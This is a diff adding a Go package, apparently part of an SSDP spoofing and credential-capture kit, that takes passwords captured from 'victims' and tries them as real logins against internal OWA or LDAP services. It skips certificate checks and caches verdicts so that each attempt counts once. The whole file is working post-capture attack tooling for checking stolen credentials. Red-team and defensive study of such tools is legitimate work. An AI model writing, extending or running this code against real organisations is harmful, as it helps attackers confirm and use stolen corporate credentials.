@@ -0,0 +1,143 @@
+// Package validate tries captured credentials against a real service, such
+// as an internal OWA or LDAP endpoint, so the operator knows which captures
+// are worth following up first. Every attempt is a real login, which can
+// alert defenders and counts towards account lockout, so it is only done
+// when asked for.
+package validate
+
+import (
+	"context"
+	"crypto/tls"
+	"fmt"
+	"net/http"
+	"net/url"
+	"sync"
+	"time"
+
+	"goSSDPkit/pkg/events"
+)
+
+// Timeout bounds each validation attempt
+const Timeout = 10 * time.Second
+
+// Validator checks whether a username and password log in to a service.
+// Programs embedding the server can supply their own, e.g. for a login
+// form or a protocol not built in.
+type Validator interface {
+	Validate(ctx context.Context, username, password string) (bool, error)
+}
+
+// New returns the built-in Validator for target: Basic auth against an
+// http(s) URL, or a simple bind to an ldap(s) server
+func New(target string) (Validator, error) {
+	u, err := url.Parse(target)
+	if err != nil || u.Host == "" {
+		return nil, fmt.Errorf("validation target %q must be an http(s) or ldap(s) URL", target)
+	}
+	switch u.Scheme {
+	case "http", "https":
+		return NewHTTP(target), nil
+	case "ldap", "ldaps":
+		return NewLDAP(u), nil
+	}
+	return nil, fmt.Errorf("validation target %q must be an http(s) or ldap(s) URL", target)
+}
+
+// insecureTLS skips certificate checks: validation targets are internal
+// services the operator names, whose certificates are often issued by a
+// private CA
+var insecureTLS = &tls.Config{InsecureSkipVerify: true}
+
+// HTTP validates credentials with Basic auth against a URL, such as
+// https://mail.corp.example/EWS/Exchange.asmx. A 2xx answer means they are
+// valid and a 401 or 403 that they are not.
+type HTTP struct {
+	url    string
+	client *http.Client
+}
+
+// NewHTTP creates an HTTP validator for url
+func NewHTTP(url string) *HTTP {
+	return &HTTP{
+		url: url,
+		client: &http.Client{
+			Timeout:   Timeout,
+			Transport: &http.Transport{TLSClientConfig: insecureTLS},
+			// A redirect is usually to a login page, which says nothing
+			CheckRedirect: func(*http.Request, []*http.Request) error {
+				return http.ErrUseLastResponse
+			},
+		},
+	}
+}
+
+// Validate implements Validator
+func (h *HTTP) Validate(ctx context.Context, username, password string) (bool, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, h.url, nil)
+	if err != nil {
+		return false, err
+	}
+	req.SetBasicAuth(username, password)
+	resp, err := h.client.Do(req)
+	if err != nil {
+		return false, err
+	}
+	resp.Body.Close()
+	switch {
+	case resp.StatusCode >= 200 && resp.StatusCode < 300:
+		return true, nil
+	case resp.StatusCode == http.StatusUnauthorized || resp.StatusCode == http.StatusForbidden:
+		return false, nil
+	}
+	return false, fmt.Errorf("%s answered %s", h.url, resp.Status)
+}
+
+// Checker runs a Validator on captured credentials, trying each username
+// and password once and remembering the verdict, so a victim submitting
+// the same password again does not cost another attempt
+type Checker struct {
+	validator Validator
+	mu        sync.Mutex
+	verdicts  map[string]string
+}
+
+// NewChecker creates a Checker running v
+func NewChecker(v Validator) *Checker {
+	return &Checker{validator: v, verdicts: make(map[string]string)}
+}
+
+// Check returns events.Valid or events.Invalid for c, or "" when its
+// source has no password to try or the attempt failed. Empty usernames and
+// passwords are invalid without trying them, as many directories accept
+// them as an anonymous login.
+func (c *Checker) Check(ctx context.Context, creds events.Credentials) (string, error) {
+	if creds.Source != events.SourceForm && creds.Source != events.SourceBasic {
+		return "", nil
+	}
+	if creds.Username == "" || creds.Password == "" {
+		return events.Invalid, nil
+	}
+
+	k := creds.Username + "\x00" + creds.Password
+	c.mu.Lock()
+	verdict, ok := c.verdicts[k]
+	c.mu.Unlock()
+	if ok {
+		return verdict, nil
+	}
+
+	ctx, cancel := context.WithTimeout(ctx, Timeout)
+	defer cancel()
+	valid, err := c.validator.Validate(ctx, creds.Username, creds.Password)
+	if err != nil {
+		return "", err
+	}
+	verdict = events.Invalid
+	if valid {
+		verdict = events.Valid
+	}
+	c.mu.Lock()
+	c.verdicts[k] = verdict
+	c.mu.Unlock()
+	return verdict, nil
+}